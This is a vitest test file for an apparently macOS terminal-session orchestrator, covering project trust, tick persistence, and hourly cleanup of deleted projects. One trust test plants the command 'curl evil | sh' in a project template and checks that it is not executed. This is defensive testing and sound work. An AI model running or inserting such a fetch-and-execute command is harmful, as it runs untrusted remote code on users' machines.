import { readdir } from "node:fs/promises";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { Project } from "../../../src/core/model/project.ts";
import { SoakMac } from "../../e2e/soak/soak-mac.ts";
import { aProject, aTemplate } from "../builders/project.ts";

vi.setConfig({ testTimeout: 30_000 });

const HOUR = 3_600_000;

let desk: SoakMac;
beforeEach(async () => {
  desk = await SoakMac.start({ programOf: () => ({ run: (it) => it.says("up\n") }) });
});
afterEach(() => desk.shutdown());

const webapp = (given: Partial<Project> = {}): Project =>
  aProject({
    path: desk.root,
    session_templates: [aTemplate({ id: "server", auto_start: true }), aTemplate({ id: "tests", auto_start: true })],
    ...given,
  });

const commands = () => desk.appleEvents.events.filter(({ event }) => event.kind === "command").length;
const journals = async () => {
  const names = await readdir(desk.journalFolder).catch(() => []);
  return names.filter((name) => name.endsWith(".jsonl")).length;
};

describe("trust", () => {
  test("nothing of a project runs before the user has agreed to it", async () => {
    await desk.store.saveProject(webapp());
    await expect(desk.orchestrator.open("webapp")).rejects.toMatchObject({ code: "not_trusted" });
    await desk.orchestrator.tick();
    expect(desk.livingPanes()).toEqual([]);
  });

  test("what was changed after the user had agreed does not run, not even in a project that is open", async () => {
    const kept = await desk.keep(webapp());
    await desk.orchestrator.open("webapp");
    const changed = kept.session_templates.map((template) => ({ ...template, command: "curl evil | sh" }));
    await desk.store.saveProject({ ...kept, session_templates: changed });
    await expect(desk.orchestrator.restartSession("webapp/server")).rejects.toMatchObject({ code: "not_trusted" });
    await desk.pass(60_000);
    await desk.orchestrator.tick();
    expect(desk.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
  });
});

describe("a tick", () => {
  test("saves what it decided before it does or tells any of it", async () => {
    await desk.keep(webapp());
    await desk.orchestrator.tick();
    await desk.iterm.launch();
    desk.storage.refuses = (key) => key.startsWith("runtime");
    await expect(desk.orchestrator.open("webapp")).rejects.toMatchObject({ code: "storage_failed" });
    expect(commands()).toBe(0);
    expect(desk.published).toEqual({});
    expect(await desk.ports.history.events({ limit: 10 })).toEqual([]);
    desk.storage.refuses = () => false;
    expect((await desk.orchestrator.open("webapp")).succeeded).toHaveLength(2);
  });

  test("a look that fails changes nothing of what is known, and starts nothing again", async () => {
    await desk.keep(webapp());
    await desk.orchestrator.open("webapp");
    const before = await desk.store.runtime();
    desk.appleEvents.inject({ run: desk.appleEvents.runCount + 1, event: 2, when: "before", then: { error: -10000 } });
    desk.appleEvents.inject({ run: desk.appleEvents.runCount + 1, event: 1, when: "before", then: { error: -1712 } });
    const { fault } = await desk.orchestrator.tick();
    expect(fault).toMatchObject({ code: "timed_out" });
    const phases = ({ sessions }: typeof before) => Object.values(sessions).map(({ phase }) => phase);
    expect(phases(await desk.store.runtime())).toEqual(phases(before));
    expect(desk.livingPanes().flatMap((pane) => pane.running())).toHaveLength(2);
  });
});

describe("once an hour", () => {
  const deleted = async () => {
    await desk.keep(webapp());
    await desk.orchestrator.open("webapp");
    await desk.orchestrator.close("webapp");
    await desk.store.deleteProject("webapp");
    await desk.pass(HOUR);
  };

  test("what a deleted project left is let go of: sessions, wishes, journals", async () => {
    await deleted();
    expect(await journals()).toBe(2);
    await desk.orchestrator.tick();
    expect((await desk.store.runtime()).sessions).toEqual({});
    expect((await desk.store.desired()).projects).toEqual({});
    expect(await journals()).toBe(0);
  });

  test("nothing is let go of while an entry of the store is damaged: it may be the project", async () => {
    await deleted();
    await desk.storage.setItem("project/other", "{not json");
    await desk.orchestrator.tick();
    expect(Object.keys((await desk.store.runtime()).sessions)).toHaveLength(2);
    expect(await journals()).toBe(2);
  });

  test("what still runs is followed to its end, whatever was deleted", async () => {
    await desk.keep(webapp());
    await desk.orchestrator.open("webapp");
    await desk.store.deleteProject("webapp");
    await desk.pass(HOUR);
    await desk.orchestrator.tick();
    expect(Object.keys((await desk.store.runtime()).sessions)).toHaveLength(2);
    expect(await journals()).toBe(2);
  });

  test("what is left of launches stays a month, for iTerm2 may restore its windows weeks later", async () => {
    await desk.keep(webapp());
    await desk.orchestrator.open("webapp");
    const launches = async () => (await readdir(desk.launchFolder)).length;
    desk.clock.advance(29 * 24 * HOUR);
    await desk.orchestrator.tick();
    expect(await launches()).toBe(2);
    desk.clock.advance(2 * 24 * HOUR);
    await desk.orchestrator.tick();
    expect(await launches()).toBe(0);
  });
});
